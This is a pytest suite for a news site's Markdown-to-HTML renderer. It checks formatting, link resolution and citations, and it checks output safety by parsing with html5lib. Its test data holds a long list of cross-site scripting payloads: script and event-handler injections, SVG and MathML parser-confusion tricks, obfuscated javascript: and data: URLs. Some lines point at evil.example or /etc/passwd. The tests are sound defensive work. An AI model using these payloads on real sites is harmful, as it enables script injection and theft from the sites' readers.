"""What an editor's Markdown becomes on a page, seen as a browser sees it: as parsed HTML."""

from __future__ import annotations

import re
import subprocess
import sys
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dateline.publish.values.cards import Link
from dateline.publish.words.markdown import render_markdown
from dateline.references import Reference, find_references, too_tangled

SOURCES = {"nbc": Link("1", "#source-1", note='NBC: "Talks" & more'), "briefing": Link("2", "")}


def resolve(reference: Reference) -> Link:
    if reference.kind == "cite":
        return SOURCES.get(reference.id, Link("?", "#sources"))
    return Link(reference.id.replace("-", " ").title(), f"/base/{reference.kind_hint or 'actors'}/{len(reference.id)}/")


def render(text: str) -> str:
    return render_markdown(text, resolve, "/base/")


# Stories


def test_paragraphs_emphasis_and_breaks() -> None:
    assert render("One *two* **three** ***four***\nfive  \nsix\n\nseven") == (
        "<p>One <em>two</em> <strong>three</strong> <em><strong>four</strong></em>\nfive<br>\nsix</p>\n<p>seven</p>"
    )


def test_links_and_citations_lead_where_they_are_resolved_to() -> None:
    assert render("[[jo-doe]], [[jo-doe|the *minister*]] and [[topic/talks]] [@nbc][@briefing].") == (
        '<p><a class="ref" href="/base/actors/6/">Jo Doe</a>, '
        '<a class="ref" href="/base/actors/6/">the *minister*</a> and '
        '<a class="ref" href="/base/topic/5/">Talks</a> '
        '<a class="cite" href="#source-1" title="NBC: &quot;Talks&quot; &amp; more">1</a>2.</p>'
    )


def test_references_stand_within_emphasis_lists_quotes_headings_and_tables() -> None:
    text = "# On [[a]]\n\n- **[[b|B]]**\n\n> _see [[c]]_\n\n| x | y |\n|---|--:|\n| [[d|D]] | [@nbc] |\n"

    made = render(text)

    assert "<h3>On <a " in made
    assert '<li><strong><a class="ref" href="/base/actors/1/">B</a></strong></li>' in made
    assert '<em>see <a class="ref" href="/base/actors/1/">C</a></em>' in made
    assert '<td><a class="ref" href="/base/actors/1/">D</a></td>' in made
    assert '<td class="right"><a class="cite"' in made


def test_references_in_code_escaped_or_within_a_links_label_are_shown_as_written() -> None:
    made = render("`[[a]]` \\[[b]] [see [[c]] `[[d]]`](/e)\n\n    [[f]]\n\n```\n[@g]\n```")

    assert made == (
        '<p><code>[[a]]</code> [[b]] <a href="/base/e">see [[c]] <code>[[d]]</code></a></p>\n'
        "<pre><code>[[f]]\n</code></pre>\n<pre><code>[@g]\n</code></pre>"
    )


def test_what_is_masked_where_nothing_can_be_is_shown_as_written() -> None:
    made = render("- item\n\n        code [[a]] & `b`\n")

    assert "<pre><code>code [[a]] &amp; `b`\n</code></pre>" in made


def test_headings_begin_at_their_level_skip_none_and_end_at_six() -> None:
    assert render("# a\n###### b\nc\n===\nd\n---") == "<h3>a</h3>\n<h4>b</h4>\n<h3>c</h3>\n<h4>d</h4>"
    assert render("## a\n\n### b\n\n## c\n\n# d") == "<h3>a</h3>\n<h4>b</h4>\n<h3>c</h3>\n<h3>d</h3>"
    assert render("\n\n".join(f"{'#' * level} a" for level in range(1, 7))).count("<h6>") == 3
    assert render_markdown("# a #\n## b ##", resolve, heading_level=2) == "<h2>a</h2>\n<h3>b</h3>"


def test_a_line_may_begin_with_a_hash_that_is_no_heading() -> None:
    assert render("#MeToo reached\n#5 of the list") == "<p>#MeToo reached\n#5 of the list</p>"


def test_lists_keep_their_numbers_and_nest() -> None:
    assert render("3. a\n4. b\n    - c\n    - d") == (
        '<ol start="3">\n<li>a</li>\n<li>b<ul>\n<li>c</li>\n<li>d</li>\n</ul>\n</li>\n</ol>'
    )


def test_fenced_code_keeps_its_lines_also_within_a_list() -> None:
    made = render("- a\n\n    ```python\n    x = [1]\n      y  # <b> & *c*\n    ```\n\n~~~\n```\n~~~")

    assert "<pre><code>x = [1]\n  y  # &lt;b&gt; &amp; *c*\n</code></pre>\n</li>" in made
    assert made.endswith("<pre><code>```\n</code></pre>")


def test_tables_are_aligned_by_class() -> None:
    made = render("| a | b | c |\n|---|:-:|--:|\n| `1|2` | [x](/y) | 3 \\| 4 |")

    assert '<th>a</th>\n<th class="center">b</th>\n<th class="right">c</th>' in made
    assert (
        '<td><code>1|2</code></td>\n<td class="center"><a href="/base/y">x</a></td>\n<td class="right">3 | 4</td>'
        in made
    )


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("[a](https://example.org/x?a=1&copy=2#f)", "https://example.org/x?a=1&copy=2#f"),
        ("[a](<https://example.org/a b>)", "https://example.org/a%20b"),
        ("[a](https://example.org/Mercury_(planet))", "https://example.org/Mercury_(planet)"),
        ("[a](https://example.org/a_b_c*d*)", "https://example.org/a_b_c*d*"),
        ("[a](https://example.org/?q=&amp;lt;)", "https://example.org/?q=&lt;"),
        ("[a](HTTPS://EXAMPLE.ORG)", "HTTPS://EXAMPLE.ORG"),
        ("[a](/about/)", "/base/about/"),
        ("[a](about/?x:y)", "about/?x:y"),
        ("[a](#part-2)", "#part-2"),
        ("[a](mailto:desk@example.org)", "mailto:desk@example.org"),
        ("<https://example.org/a_b>", "https://example.org/a_b"),
        ("<desk@example.org>", "mailto:desk@example.org"),
        ("[a][b]\n\n[b]: https://example.org/", "https://example.org/"),
        ("[b][]\n\n[B]: /c 'title'", "/base/c"),
        ("[b]\n\n[b]: <#c>", "#c"),
    ],
)
def test_links_lead_where_an_editor_may_send_a_reader(text: str, href: str) -> None:
    (link,) = parse(render(text)).iter("a")

    assert link.get("href") == href
    assert (link.get("rel") == "noopener") == href.lower().startswith("http")


def test_titles_and_alternative_texts_are_kept() -> None:
    picture = '![A "map" & *more*](/media/x.jpg "Credit: \'me\' & co")'

    (shown,) = parse(render(picture)).iter("img")

    assert shown.attrib == {"src": "/base/media/x.jpg", "alt": 'A "map" & *more*', "title": "Credit: 'me' & co"}


def test_a_picture_from_elsewhere_is_a_link_since_a_page_asks_no_third_party() -> None:
    assert render("![a map](https://example.org/x.png)") == (
        '<p><a href="https://example.org/x.png" rel="noopener">a map</a></p>'
    )
    assert render("[![a map](https://example.org/x.png)](/y)") == '<p><a href="/base/y">a map</a></p>'
    assert render("[![a map](/x.png)](/y)") == '<p><a href="/base/y"><img alt="a map" src="/base/x.png"></a></p>'


def test_html_is_shown_as_it_was_written() -> None:
    assert render("<b id=x>bold</b> <!-- note --> &copy; &lt;i&gt;") == (
        "<p>&lt;b id=x&gt;bold&lt;/b&gt; &lt;!-- note --&gt; © &lt;i&gt;</p>"
    )


def test_a_reference_that_leads_out_says_so() -> None:
    made = render_markdown("[@x]", lambda _: Link("1", "https://example.org/"))

    assert made == '<p><a class="cite" href="https://example.org/" rel="noopener">1</a></p>'


def test_titles_are_text_and_never_html() -> None:
    made = render_markdown("[[x]]", lambda _: Link("a &lt; <b> & c", "/?a=1&lt=2", note="&quot;<i>"))

    (link,) = parse(made).iter("a")
    assert (link.text, link.get("href"), link.get("title")) == ("a &lt; <b> & c", "/?a=1&lt=2", "&quot;<i>")


def test_one_text_leaves_no_trace_in_the_next() -> None:
    before = render("[a][b] *c*")

    render("[b]: /secret\n\n- x\n\n    - `y` *z [[q]]")

    assert render("[a][b] *c*") == before == "<p>[a][b] <em>c</em></p>"


def test_a_text_that_failed_halfway_leaves_no_trace_in_the_next() -> None:
    def fail(_: Reference) -> Link:
        raise LookupError

    with pytest.raises(LookupError):
        render_markdown("- a\n\n    - *b [[c]]*\n\n[d]: /e", fail)

    assert render("- a [d]") == "<ul>\n<li>a [d]</li>\n</ul>"


@pytest.mark.parametrize("text", ["", " \n\n\t\n"])
def test_no_text_is_no_html(text: str) -> None:
    assert render(text) == ""


def test_the_same_text_is_the_same_html_in_another_process() -> None:
    text = '[a](/b "c") ![d](/e "f") [@nbc] <https://x.y>\n\n|a|b|\n|-|-:|'
    script = (
        "from dateline.publish.words.markdown import render_markdown\nfrom dateline.publish.values.shown import Link\n"
        f"print(render_markdown({text!r}, lambda r: Link('1', '#s', note='n')), end='')"
    )
    told = {
        subprocess.run(
            [sys.executable, "-c", script], env={"PYTHONHASHSEED": seed}, capture_output=True, text=True, check=True
        ).stdout
        for seed in ("1", "2")
    }

    assert told == {render_markdown(text, lambda _: Link("1", "#s", note="n"))}


# Ways to smuggle a script

CODE = "alert(1)"
ELEMENTS = [
    f"<script>{CODE}</script>",
    f"<SCRIPT>{CODE}</SCRIPT>",
    f"<scr<script>ipt>{CODE}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    f"<script/src=data:,{CODE}></script>",
    f"<script\n>{CODE}</script\n>",
    f"<script>{CODE}",
    f"<<script>{CODE}//<</script>",
    f"</p><script>{CODE}</script>",
    f"</div></article><script>{CODE}</script>",
    f"<img src=x onerror={CODE}>",
    f"<img src=x:x onerror={CODE}//",
    f"<img/src=x/onerror={CODE}>",
    f'<img src="x`" `onerror={CODE}>',
    f"<img src=x onerror\n=\n{CODE}>",
    f"<img src=x\x0conerror={CODE}>",
    f"<img\x00src=x onerror={CODE}>",
    f"<image src=x onerror={CODE}>",
    f"<img srcset=x onerror={CODE}>",
    f"<picture><source srcset=x><img onerror={CODE}></picture>",
    f"<svg onload={CODE}>",
    f"<svg/onload={CODE}>",
    f"<svg><script>{CODE}</script></svg>",
    f"<svg><script href=data:,{CODE} />",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CODE}><text y=20>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,<svg/onload={CODE}>></svg>",
    f"<svg><set attributeName=href to=javascript:{CODE}></svg>",
    f"<svg><style><img src=x onerror={CODE}></style></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={CODE}>'>",
    f"<svg><foreignObject><iframe srcdoc='<script>{CODE}</script>'>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CODE}>",
    f"<math><mi><table><mglyph><style><img src=x onerror={CODE}></style></table></math>",
    f"<math href=javascript:{CODE}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{CODE}>x</maction></math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={CODE} src>'>",
    f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>",
    f"<template><img src=x onerror={CODE}></template>",
    f"<xmp><p title='</xmp><img src=x onerror={CODE}>'>",
    f"<noembed><img title='</noembed><img src onerror={CODE}>'></noembed>",
    f"<textarea><img title='</textarea><img src onerror={CODE}>'></textarea>",
    f"<title><a title='</title><img src=x onerror={CODE}>'>",
    f"<plaintext><img src=x onerror={CODE}>",
    f"<iframe src=javascript:{CODE}></iframe>",
    f"<iframe srcdoc='<script>{CODE}</script>'></iframe>",
    f"<object data=javascript:{CODE}></object>",
    f"<embed src=javascript:{CODE}>",
    f"<applet code=x archive=javascript:{CODE}></applet>",
    f"<body onload={CODE}>",
    f"<body background=javascript:{CODE}>",
    f"<input autofocus onfocus={CODE}>",
    f"<select autofocus onfocus={CODE}>",
    f"<button formaction=javascript:{CODE}>x</button>",
    f"<form action=javascript:{CODE}><input type=submit></form>",
    "<form id=document><input name=cookie></form>",
    f"<details open ontoggle={CODE}>x</details>",
    f"<video src=x onerror={CODE}></video>",
    f"<video><source onerror={CODE}></video>",
    f"<audio src=x onerror={CODE}>",
    f"<marquee onstart={CODE}>x</marquee>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CODE}'>",
    f"<meta charset=utf-7>+ADw-script+AD4-{CODE}+ADw-/script+AD4-",
    f"<link rel=stylesheet href=javascript:{CODE}>",
    f"<link rel=import href=data:text/html,<script>{CODE}</script>>",
    f"<base href=javascript:{CODE}//>",
    f"<style>@import 'javascript:{CODE}';</style>",
    f"<style>*{{background:url(javascript:{CODE})}}</style>",
    f"<p style='background:url(javascript:{CODE})'>x</p>",
    "<p style=behavior:url(x.htc)>x</p>",
    f"<a href=javascript:{CODE}>x</a>",
    f"<a href='java\tscript:{CODE}'>x</a>",
    f"<a href=&#106;avascript:{CODE}>x</a>",
    f"<a href=x onclick={CODE}>x</a>",
    f"<a href=x onmouseover={CODE}>x</a>",
    "<a target=_blank href=//evil.example>x</a>",
    "<a id=location href=//evil.example>x</a>",
    "<a ping=//evil.example href=/x>x</a>",
    "<p id=__proto__ class=secret name=x>x</p>",
    f"<table background=javascript:{CODE}><td background=javascript:{CODE}>x",
    f"<isindex type=image src=1 onerror={CODE}>",
    f"<keygen autofocus onfocus={CODE}>",
    f"<portal src=javascript:{CODE}>",
    f"<dialog open onclose={CODE}>x</dialog>",
    f"<x onclick={CODE} tabindex=1 contenteditable autofocus onfocus={CODE}>x</x>",
    f"<x-y is=z onfocus={CODE}>",
    f"<!-- --><script>{CODE}</script>",
    f"<!--><img src=x onerror={CODE}>-->",
    f"<!--[if gte IE 4]><script>{CODE}</script><![endif]-->",
    f"<!-- `--!><img src=x onerror={CODE}> -->",
    f"<![CDATA[<script>{CODE}</script>]]>",
    f"<?xml-stylesheet href='javascript:{CODE}'?>",
    f"<?php echo '<script>{CODE}</script>' ?>",
    f"<!DOCTYPE html [<!ENTITY x '<script>{CODE}</script>'>]>&x;",
    f"<%<script>{CODE}</script>%>",
    f"<//script><script>{CODE}</script>",
    f"&lt;script&gt;{CODE}&lt;/script&gt;",
    f"&#60;script&#62;{CODE}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={CODE}&#x3e;",
    f"&amp;lt;script&amp;gt;{CODE}",
    f"&ltscript&gt{CODE}",
    f"&#0000060script>{CODE}",
    f"\\<script>{CODE}\\</script>",
    f"＜script＞{CODE}＜/script＞",
    f"\u2028<script>{CODE}</script>",
    f"{{{{ ''.__class__ }}}} {{% include '/etc/passwd' %}} {{# {CODE} #}}",
    f"<div markdown=1>[x](javascript:{CODE})</div>",
    f"<p><img src=x onerror={CODE}></p>",
    f"  <div>\n<script>{CODE}</script>\n</div>",
    f"\x02amp\x03lt;script\x02amp\x03gt;{CODE}",
    f"\x02wzxhzdk:0\x03<script>{CODE}</script>",
    f"\x02klzzwxh:0000\x03<script>{CODE}</script>\x0260\x03script\x0262\x03",
    f"\ufdd00\ufdd1<script>{CODE}</script>`<script>`",
]
ADDRESSES = [
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f"javascript://example.org/%0a{CODE}",
    f"javascript&colon;{CODE}",
    f"javascript&#58;{CODE}",
    f"javascript&#x3A;{CODE}",
    f"&#106;avascript:{CODE}",
    f"&#x6A;avascript:{CODE}",
    f"&#0000106;avascript:{CODE}",
    f"&#106avascript:{CODE}",
    f"&amp;#106;avascript:{CODE}",
    f"&amp;amp;#106;avascript:{CODE}",
    f"&Tab;javascript:{CODE}",
    f"java&Tab;script:{CODE}",
    f"java&NewLine;script:{CODE}",
    f"java&#10;script:{CODE}",
    f"java&#13;script:{CODE}",
    f"java&#x0;script:{CODE}",
    f"&#1;javascript:{CODE}",
    f"&#x1f;javascript:{CODE}",
    f"\x01javascript:{CODE}",
    f"\x1b\x0ejavascript:{CODE}",
    f"java\x00script:{CODE}",
    f"java\x7fscript:{CODE}",
    f"java\u00adscript:{CODE}",
    f"\u200bjavascript:{CODE}",
    f"\ufeffjavascript:{CODE}",
    f"javascript\u2028:{CODE}",
    f"\\javascript:{CODE}",
    f"java\\script:{CODE}",
    f"javascript\\:{CODE}",
    "&bsol;&bsol;evil.example",
    "vbscript:msgbox(1)",
    f"livescript:{CODE}",
    f"mocha:{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg/onload={CODE}>",
    f"data:,{CODE}",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "file:///etc/passwd",
    "ftp://example.org/",
    "about:blank",
    f"view-source:javascript:{CODE}",
    f"feed:javascript:{CODE}",
    f"jar:javascript:{CODE}!/x",
    "ms-its:x",
    "intent://x#Intent;scheme=javascript;end",
    "x:y",
    "1:y",
    f":javascript:{CODE}",
    "//evil.example/x",
    "///evil.example/x",
    "\\\\evil.example/x",
    "/\\evil.example/x",
    "\\/evil.example/x",
    "&sol;&sol;evil.example",
    "/&#9;/evil.example",
    "/\t/evil.example",
    "&#32;//evil.example",
    "http:",
    "https://",
    "http:///evil",
    "mailto:",
    f"javascript:{CODE}//https://example.org/",
    f"javascript:'http://'+{CODE}",
    f"`javascript:{CODE}`",
    f"[[javascript:{CODE}]]",
    f"java[[x]]script:{CODE}",
    f"\ufdd0javascript:{CODE}",
    f"\x02106\x03avascript:{CODE}",
    f"\x02amp\x03#106;avascript:{CODE}",
]
WAYS_TO_WRITE_AN_ADDRESS = [
    "[x]({})",
    "[x](<{}>)",
    "[x]( {} )",
    '[x]({} "title")',
    "![x]({})",
    "[![x]({})](/y)",
    "[![x](/y)]({})",
    "<{}>",
    "[x]\n\n[x]: {}",
    "[x][y]\n\n[y]: <{}> 'title'",
    "> - [x]({})",
    "| [x]({}) |\n|---|\n",
    "**[x *y*]({})**",
    "[x](/y){}",
]
MARKDOWN = [
    f'[x](/y "\\" onmouseover={CODE}")',
    f"[x](/y '\" onmouseover={CODE} x=\"')",
    f'[x](/y "&quot; onmouseover={CODE}")',
    f'[x](/y"onmouseover={CODE})',
    f'[x](</y" onmouseover={CODE}>)',
    f"[x](</y><script>{CODE}</script>)",
    f"[x](<javascript:{CODE}><img>)",
    f'[x](/y "</a><script>{CODE}</script>")',
    f'![x" onerror="{CODE}](/y)',
    f'![x](/y" onerror="{CODE})',
    f"![<img src=x onerror={CODE}>](/y)",
    f'![x](https://evil.example/" onerror={CODE} ")',
    f"![](javascript:{CODE})",
    f"[<img src=x onerror={CODE}>](/y)",
    f"[x](java\nscript:{CODE})",
    f"[x](\njavascript:{CODE}\n)",
    f"[x [y](javascript:{CODE}) z](/w)",
    f"[x](/y)](javascript:{CODE})",
    f"[[[x](javascript:{CODE})]]",
    f"[a]: javascript:{CODE}\n[a][]\n[a]",
    f"[a]:\njavascript:{CODE}\n\n[a]",
    f'[a]: /y "\\"><script>{CODE}</script>"\n\n[a]',
    f"[a]: <javascript:{CODE}> (title)\n\n![a]",
    f"`<script>{CODE}</script>`",
    f"``` {CODE}\n</code></pre><script>{CODE}</script>\n```",
    f'```"><script>{CODE}</script>\nx\n```',
    f"```{{.x onclick={CODE} #id}}\nx\n```",
    f'~~~ hl_lines="<script>"\n<script>{CODE}</script>\n~~~',
    f"    </code></pre><script>{CODE}</script>",
    f"# x {{#location onclick={CODE}}}",
    f"x {{: onclick={CODE} }}",
    f"[x](/y){{: onclick={CODE} target=_blank }}",
    f"| <script>{CODE}</script> |\n|---|\n| <img src=x onerror={CODE}> |",
    f'| a |\n|:-:"onclick={CODE}|\n| b |',
    f"*<script>*{CODE}*</script>*",
    f"<scr**ipt>**{CODE}",
    f"<javascript:{CODE}>",
    "<javascript://x>",
    f'<x@y.example"onclick={CODE}>',
    f'<"onclick={CODE}@y.example>',
    "<javascript:x@y.example>",
    f"<mailto:x?body=<script>{CODE}</script>>",
    f'<https://x/"onmouseover={CODE}>',
    f"<https://x/'><script>{CODE}</script>>",
    f"[[x|<img src=x onerror={CODE}>]]",
    f'[[x|" onmouseover={CODE} ]]',
    f"[[x|</a><script>{CODE}</script>]]",
    f"[[x|&lt;script&gt;{CODE}]]",
    f"[[<script>{CODE}</script>]]",
    f'[["><script>{CODE}</script>]]',
    f"[[javascript:{CODE}]]",
    f"[[topic/javascript:{CODE}|x]]",
    f"[[../../javascript:{CODE}]]",
    f'[@"><script>{CODE}</script>]',
    f"[@javascript:{CODE}]",
    f"[@x](javascript:{CODE})",
    f"[[x]](javascript:{CODE})",
    f"[[x|y]][javascript:{CODE}]",
    f"[[x|\n\n<script>{CODE}</script>]]",
    f"[ [[x]] ](javascript:{CODE})",
    f"![[[x]]](javascript:{CODE})",
    f"[a `]`](https://x/[[<img src=x onerror={CODE}>]])",
    f'[a `]`](/x "`" onmouseover={CODE} `")',
    f'<http://x/`" onmouseover={CODE} `>',
    f"- \n    </li></ul><script>{CODE}</script>",
    f"> </blockquote><script>{CODE}</script>",
    f"x  \n<script>{CODE}</script>",
    f"a\n<script>\n===\n{CODE}",
    f"[^1]\n\n[^1]: <script>{CODE}</script>",
    f'*[HTML]: "onclick={CODE}\n\nHTML',
    f'!!! danger "<script>{CODE}</script>"\n    x',
]
SMUGGLED = [*ELEMENTS, *(f"text {element} text" for element in ELEMENTS), *MARKDOWN]

ALLOWED: dict[str, set[str]] = {
    **{
        tag: set()
        for tag in [
            "p",
            "br",
            "hr",
            "h3",
            "h4",
            "h5",
            "h6",
            "blockquote",
            "ul",
            "li",
            "pre",
            "code",
            "em",
            "strong",
            "table",
            "thead",
            "tbody",
            "tr",
        ]
    },
    "a": {"href", "title", "rel", "class"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "th": {"class"},
    "td": {"class"},
}


def parse(made: str) -> Element:
    """As a browser reads it in a page's main column."""
    root: Element = html5lib.parseFragment(made, container="div", namespaceHTMLElements=False)
    return root


def browsers_address(value: str) -> str:
    """The address as browsers trim and read it, whose first part says where it leads."""
    return re.sub(r"[\t\n\r]", "", value.strip("".join(map(chr, range(33))))).replace("\\", "/")


def assert_safe(made: str) -> None:
    root = parse(made)
    for element in root.iter():
        if element is root:
            continue
        assert element.tag in ALLOWED, element.tag
        assert set(element.attrib) <= ALLOWED[element.tag], element.attrib
        assert element.get("class") in {None, "ref", "cite", "center", "right"}
        assert element.get("rel") in {None, "noopener"}
        for name in {"href", "src"} & set(element.attrib):
            address = browsers_address(element.attrib[name])
            scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", address)
            assert not address.startswith("//")
            assert not scheme or (name == "href" and scheme[1].lower() in {"http", "https", "mailto"}), address
    # What is parsed and written again reads the same: nothing changes its meaning on a second pass.
    assert html5lib.serialize(parse(html5lib.serialize(root))) == html5lib.serialize(root)


@pytest.mark.parametrize("text", SMUGGLED)
def test_no_script_is_smuggled_in_elements_or_markdown(text: str) -> None:
    assert_safe(render(text))


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_script_is_smuggled_in_an_address(address: str) -> None:
    for way in WAYS_TO_WRITE_AN_ADDRESS:
        assert_safe(render(way.replace("{}", address)))


@pytest.mark.parametrize("text", [*ELEMENTS, *ADDRESSES])
def test_no_script_is_smuggled_in_a_title(text: str) -> None:
    assert_safe(render_markdown("[[x]] *[@y]*", lambda _: Link(text, text, note=text)))


def test_the_ways_are_many() -> None:
    assert len({*ELEMENTS, *MARKDOWN, *ADDRESSES}) >= 170


def test_the_check_sees_what_is_unsafe() -> None:
    for unsafe in ("<script>", "<p id=x>", "<a href='java\tscript:x'>", "<img src=https://x.y>", "<a href='/\\x'>"):
        with pytest.raises(AssertionError):
            assert_safe(unsafe)


# For any text

SIGNS = (
    "[ ] ( ) [[ ]] [@ ]( ` `` ``` ~~~ \\ * ** _ __ # > - 1. & &amp; &#58; < > <a <!-- <script> javascript: http://x.y "
    "mailto: // onerror= \" ' = ! | --- {: } a B é <http://x.y> [[x]] [[x|y]] [@z] [d] [d]: ](/u) \x02 \x03 \ufdd0 0"
)
SPACES = [" ", "  \n", "    ", "\t", "\n", "\n\n", "\n```\n", "\r\n", "\n| a | b |\n|---|:-:|\n", "\n[d]: /u\n"]
PIECES = st.sampled_from([*SIGNS.split(" "), *SPACES])
TEXTS = st.lists(PIECES, max_size=50).map("".join) | st.text(max_size=200)


@given(TEXTS)
def test_any_text_that_is_not_refused_renders_to_safe_html_of_its_size(text: str) -> None:
    if too_tangled(text) is not None:
        return

    made = render(text)

    assert_safe(made)
    assert len(made) <= 60 * len(text)
    assert not set("\x02\x03\ufdd0\ufdd1\ufdd2") & set(made)
    assert made == render(text)


@given(TEXTS)
def test_what_is_resolved_is_what_was_found(text: str) -> None:
    asked: list[Reference] = []

    def note(reference: Reference) -> Link:
        asked.append(reference)
        return Link("x", "/x/")

    text = text.replace("\r\n", "\n").replace("\r", "\n")
    render_markdown(text, note)

    assert set(asked) <= set(find_references(text))


@pytest.mark.parametrize("nest", ["> " * 20, "- " * 20, "1. " * 20, "> - 1. " * 6], ids=str.strip)
@pytest.mark.parametrize("sign", ["*a ", "**a _b ", "[", "![", "`", "\\*", "[[a]] ", "<a@b.c> "])
def test_what_is_just_not_refused_renders(nest: str, sign: str) -> None:
    text = (nest + sign * 900 + "\n\n") * 3
    assert too_tangled(text) is None

    assert_safe(render(text))
